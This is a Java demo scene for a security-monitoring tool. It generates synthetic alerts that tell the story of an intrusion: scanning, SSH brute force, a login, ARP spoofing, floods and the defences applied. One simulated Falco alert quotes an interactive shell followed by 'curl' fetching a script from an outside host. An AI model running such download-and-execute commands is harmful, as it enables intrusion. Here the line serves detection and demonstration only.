package dev.pulse.demo;

import static dev.pulse.event.Severity.CRITICAL;
import static dev.pulse.event.Severity.HIGH;
import static dev.pulse.event.Severity.INFO;
import static dev.pulse.event.Severity.MEDIUM;

import dev.pulse.event.Severity;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/// The story to be found: 203.0.113.66 looks around, guesses a password, is let in, turns on its neighbours and, when it is shut out,
/// floods the door. Falco on the taken machine sees the login that the network cannot see.
final class Attack implements Scene {
    static final Duration FLOOD_BEGINS = Duration.ofMinutes(52);
    static final Duration FLOOD_ENDS = Duration.ofMinutes(38);
    private static final String ATTACKER = "203.0.113.66";
    private static final String DOOR = "10.0.0.5";
    private static final String TAKEN = "10.0.0.23";

    private final Sensor sentinel;
    private final Sensor falco;
    private final Sensor lab;
    private final List<Message> messages;

    /// @param end when the day of the demo ends; the attack lies in its last two hours
    Attack(Sensor sentinel, Sensor falco, Sensor lab, Instant end) {
        this.sentinel = sentinel;
        this.falco = falco;
        this.lab = lab;
        this.messages = Stream.of(looking(end), guessing(end), entering(end), turning(end), flooding(end), defending(end))
                .flatMap(part -> part).toList();
    }

    @Override
    public Stream<Message> between(Instant from, Instant to) {
        return messages.stream().filter(message -> !message.at().isBefore(from) && message.at().isBefore(to));
    }

    private Stream<Message> looking(Instant end) {
        return IntStream.range(0, 7).mapToObj(i -> see(at(end, 102, 41, i), HIGH, "PORT_SCAN", ATTACKER, DOOR,
                "%d ports of 10.0.0.5 in 10 s, edge-1".formatted(24 + 13 * i)));
    }

    private Stream<Message> guessing(Instant end) {
        return IntStream.range(0, 38).mapToObj(i -> see(at(end, 94, 18, i), MEDIUM, "RULE:SSH brute force", ATTACKER, DOOR,
                "%d failed logins in 60 s, user backup".formatted(11 + i % 5)));
    }

    private Stream<Message> entering(Instant end) {
        var at = end.minus(Duration.ofMinutes(81));
        return Stream.of(
                falco.says(at, "falco.alert", HIGH, "falco-" + at.getEpochSecond(), """
                        {'rule':'Login after many failures','user':'backup','src_ip':'203.0.113.66','process':'sshd',\
                        'output':'sshd: accepted password for backup from 203.0.113.66 after 412 failures'}"""),
                falco.says(at.plusSeconds(74), "falco.alert", CRITICAL, "falco-" + at.plusSeconds(74).getEpochSecond(), """
                        {'rule':'Shell spawned by backup user','user':'backup','process':'bash','parent':'sshd',\
                        'output':'bash -i started by backup, then curl 198.51.100.99/x.sh'}"""));
    }

    private Stream<Message> turning(Instant end) {
        return Stream.concat(
                IntStream.range(0, 12).mapToObj(i -> see(at(end, 76, 20, i), HIGH, "ARP_SPOOF", TAKEN, "10.0.0.1",
                        "10.0.0.1 is claimed by 02:42:ac:11:00:17")),
                Stream.of(see(at(end, 71, 0, 0), CRITICAL, "ARP_SPOOF", TAKEN, "10.0.0.1", "gratuitous reply for the gateway 10.0.0.1")));
    }

    private Stream<Message> flooding(Instant end) {
        return Stream.concat(
                IntStream.range(0, 14).mapToObj(i -> see(at(end, 58, 31, i), HIGH, "RULE:DNS amplification", "198.51.100." + (11 + 7 * i),
                        "10.0.0.2", "%d answers of 3 KiB in 10 s".formatted(900 + 140 * i))),
                IntStream.range(0, 16).mapToObj(i -> see(at(end, 52, 47, i), CRITICAL, "SYN_FLOOD", ATTACKER, DOOR,
                        "%d SYN in 10 s, none completed".formatted(18_000 + 2_300 * i))));
    }

    private Stream<Message> defending(Instant end) {
        return Stream.of(
                lab.says(at(end, 45, 0, 0), "netlab.defense.applied", INFO, "{'defense':'syn-cookies','target':'edge-1'}"),
                lab.says(at(end, 44, 0, 0), "netlab.defense.alert", HIGH,
                        "{'defense':'syn-cookies','message':'8,100 half-open connections dropped in 60 s'}"),
                lab.says(at(end, 39, 0, 0), "netlab.defense.applied", INFO, "{'defense':'drop 203.0.113.66','target':'edge-1'}"),
                lab.says(at(end, 12, 0, 0), "netlab.defense.removed", INFO, "{'defense':'syn-cookies','target':'edge-1'}"));
    }

    private Message see(Instant at, Severity severity, String detector, String from, String to, String text) {
        return Sighting.by(sentinel, at, severity, detector, from, to, text);
    }

    private static Instant at(Instant end, int minutesBefore, int everySeconds, int i) {
        return end.minus(Duration.ofMinutes(minutesBefore)).plusMillis(everySeconds * 1000L * i + 137L * i % 1000);
    }
}
